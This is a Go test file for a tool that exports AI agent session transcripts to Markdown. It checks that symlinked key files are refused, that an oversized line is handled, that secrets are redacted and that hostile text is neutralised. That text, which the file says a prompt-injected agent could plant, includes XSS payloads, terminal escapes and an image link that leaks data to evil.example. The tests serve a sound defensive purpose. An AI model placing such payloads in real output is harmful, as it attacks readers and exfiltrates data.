package transcript

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"github.com/claudebox/claudebox/untrusted"
)

const hostileRecord = `{"type":"user","uuid":"u1","parentUuid":null,"timestamp":"2026-11-20T10:00:00Z","message":{"role":"user","content":"hello"}}` + "\n"

// TestExportReadsNoLink: a transcript that is a symlink (to a key the
// sandbox cannot read, but the host can), or that sits in a directory that
// is one, is neither listed nor exported, and a FIFO does not hang.
func TestExportReadsNoLink(t *testing.T) {
	inst := t.TempDir()
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "id_ed25519")
	os.WriteFile(secret, []byte("SECRET-KEY-MATERIAL\n"), 0o600)
	os.WriteFile(filepath.Join(secretDir, "00000000-0000-0000-0000-000000000002.jsonl"), []byte("SECRET-KEY-MATERIAL\n"), 0o600)
	dir := filepath.Join(inst, "-p")
	os.Mkdir(dir, 0o700)
	os.Symlink(secret, filepath.Join(dir, "00000000-0000-0000-0000-000000000001.jsonl"))
	os.Symlink(secretDir, filepath.Join(inst, "-linked"))
	if err := syscall.Mkfifo(filepath.Join(dir, "00000000-0000-0000-0000-000000000003.jsonl"), 0o600); err != nil {
		t.Fatal(err)
	}
	// A real session whose subagent transcript and metadata are links.
	os.WriteFile(filepath.Join(dir, "00000000-0000-0000-0000-000000000004.jsonl"), []byte(hostileRecord), 0o600)
	subs := filepath.Join(dir, "00000000-0000-0000-0000-000000000004", "subagents")
	os.MkdirAll(subs, 0o700)
	os.Symlink(secret, filepath.Join(subs, "agent-a1.jsonl"))
	os.WriteFile(filepath.Join(subs, "agent-a2.jsonl"), []byte(hostileRecord), 0o600)
	os.Symlink(secret, filepath.Join(subs, "agent-a2.meta.json"))
	var b bytes.Buffer
	if err := Export(&b, inst, "-p/00000000-0000-0000-0000-000000000004.jsonl", Options{Detail: Tools}); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); strings.Contains(out, "SECRET") || strings.Contains(out, "Subagent a1") || !strings.Contains(out, "## Subagent a2") {
		t.Errorf("the export of a session with linked subagent files:\n%s", out)
	}
	ss, err := Sessions(inst)
	if err != nil || len(ss) != 1 {
		t.Fatalf("Sessions = %+v, %v; want the one regular file", ss, err)
	}
	for _, name := range []string{"-p/00000000-0000-0000-0000-000000000001.jsonl", "-linked/00000000-0000-0000-0000-000000000002.jsonl", "-p/00000000-0000-0000-0000-000000000003.jsonl"} {
		var b bytes.Buffer
		err := Export(&b, inst, name, Options{Detail: Tools})
		if err == nil || strings.Contains(b.String(), "SECRET") {
			t.Errorf("Export of %s: %v, wrote %q; want it refused, unread", name, err, b.String())
		}
		if !errors.Is(err, syscall.ELOOP) && !errors.Is(err, syscall.EXDEV) && !errors.Is(err, untrusted.ErrNotRegular) {
			t.Errorf("Export of %s: %v; want a link or a FIFO refused", name, err)
		}
	}
}

// TestExportSparseLine: a transcript with a 1 GiB line (a sparse file: no
// disk, all of it NUL bytes) is exported with the line skipped and noted,
// and the export never holds it: it allocates no more than a few times its
// longest line, not the gigabyte.
func TestExportSparseLine(t *testing.T) {
	if testing.Short() {
		t.Skip("reads 1 GiB")
	}
	inst := t.TempDir()
	f, err := os.Create(filepath.Join(inst, "t.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(hostileRecord)
	if err := f.Truncate(1<<30 + int64(len(hostileRecord))); err != nil {
		t.Fatal(err)
	}
	f.Seek(0, 2)
	f.WriteString("\n" + strings.Replace(strings.Replace(hostileRecord, `"u1","parentUuid":null`, `"u2","parentUuid":"u1"`, 1), "hello", "after the long line", 1))
	f.Close()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	var b bytes.Buffer
	if err := Export(&b, inst, "t.jsonl", Options{Detail: Tools}); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	out := b.String()
	for _, want := range []string{"> hello", "> after the long line", "1 lines of the transcript were left out"} {
		if !strings.Contains(out, want) {
			t.Errorf("the export lacks %q:\n%s", want, out)
		}
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 3*maxLine {
		t.Errorf("the export allocated %d bytes for a 1 GiB line", alloc)
	}
}

// hostileText is what a prompt-injected agent could put in a transcript
// to act on whoever opens the export: terminal escapes, HTML, script
// links, an auto-loading image, a fence that never closes.
var hostileText = []string{
	"\x1b]0;pwned\x07\x1b[2J\x9b31m\u202egnp.exe",
	"<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=//evil>",
	"[x](javascript:alert(3)) [y]( JAVASCRIPT:alert(4)) [z](data:text/html,<b>) <javascript:alert(5)>",
	"![t](https://evil.example/?leak=secret)",
	"[r]: javascript:alert(6)",
	"> [q]: javascript:alert(7)\n- [l]: <javascript:alert(8)>\n[q] [l]",
	"1. item\n   ```\n   code\n<script>after the list</script>",
	"```\nnever closed <b>",
	"~~~~\n<script>x</script>\n~~~",
	"` <b>code</b> ` and ` unclosed <i>",
}

// TestSafeMarkdownNeutralises: every hostile text, wherever the export
// shows it, comes out with no control character, no HTML tag outside code,
// no link but to http(s), and no image.
func TestSafeMarkdownNeutralises(t *testing.T) {
	for _, s := range hostileText {
		out := safeMarkdown(s)
		for _, r := range out {
			if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || r == '\u202e') {
				t.Errorf("safeMarkdown(%q) = %q: holds %U", s, out, r)
			}
		}
		outside := codeless(out)
		for _, bad := range []string{"<script", "<img", "<iframe", "<b>", "<i>", "](javascript", "]( JAVASCRIPT", "](data:", "<javascript", "![", "]: javascript", "]: <javascript", "<script>after"} {
			if strings.Contains(outside, bad) {
				t.Errorf("safeMarkdown(%q) = %q: %q outside code", s, out, bad)
			}
		}
		if strings.Count("\n"+out, "\n```")%2 != 0 {
			t.Errorf("safeMarkdown(%q) = %q: a fence left open", s, out)
		}
		if s := summaryText(s); strings.ContainsAny(s, "<>\x1b") {
			t.Errorf("summaryText = %q", s)
		}
	}
	if got := inlineCode("a ``` b"); got != "````a ``` b````" {
		t.Errorf("inlineCode = %q", got)
	}
	if got := codeBlock("x\n````\ny", ""); !strings.HasPrefix(got, "`````\n") {
		t.Errorf("codeBlock = %q, want a fence longer than its content's", got)
	}
}

// codeless drops fenced blocks and code spans, where Markdown shows text
// as it is.
func codeless(s string) string {
	var b strings.Builder
	in := false
	for _, line := range strings.Split(s, "\n") {
		if strings.HasPrefix(line, "```") || strings.HasPrefix(line, "~~~") {
			in = !in
			continue
		}
		if !in {
			for i, part := range strings.Split(line, "`") {
				if i%2 == 0 {
					b.WriteString(part)
				}
			}
			b.WriteString("\n")
		}
	}
	return b.String()
}

// TestRedact: each shape of secret is replaced, and only it.
func TestRedact(t *testing.T) {
	for in, want := range map[string]string{
		"key sk-ant-api03-" + strings.Repeat("x", 30) + " end":                       "key [REDACTED] end",
		"sk-proj-" + strings.Repeat("Y", 40):                                         "[REDACTED]",
		"ghp_" + strings.Repeat("a", 36) + ".":                                       "[REDACTED].",
		"github_pat_" + strings.Repeat("b", 60):                                      "[REDACTED]",
		"aws AKIAIOSFODNN7EXAMPLE":                                                   "aws [REDACTED]",
		"Authorization: Bearer abc.def-ghi_jkl012345":                                "Authorization: Bearer [REDACTED]",
		"a\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nb": "a\n[REDACTED]\nb",
		"cut: -----BEGIN PRIVATE KEY-----\nMIIEv":                                    "cut: [REDACTED]",
		"xoxb-1234567890-abcdef":                                                     "[REDACTED]",
		"plain sk-short and task-list and AKIA":                                      "plain sk-short and task-list and AKIA",
	} {
		if got := redact(in); got != want {
			t.Errorf("redact(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRelativize: the project's paths from ".", the home's from "~", and
// a sibling whose name only starts like the project's left whole.
func TestRelativize(t *testing.T) {
	for in, want := range map[string]string{
		"/home/a/p/src/x.go":      "./src/x.go",
		"cwd is /home/a/p.":       "cwd is ~/p.",
		"/home/a/p2/x":            "~/p2/x",
		"/home/a/.ssh/id":         "~/.ssh/id",
		"/home/ab/x":              "/home/ab/x",
		"/home/a/p.git/config":    "~/p.git/config",
		"see /home/a and /home/a": "see ~ and ~",
	} {
		if got := relativize(in, "/home/a/p", "/home/a"); got != want {
			t.Errorf("relativize(%q) = %q, want %q", in, got, want)
		}
	}
}
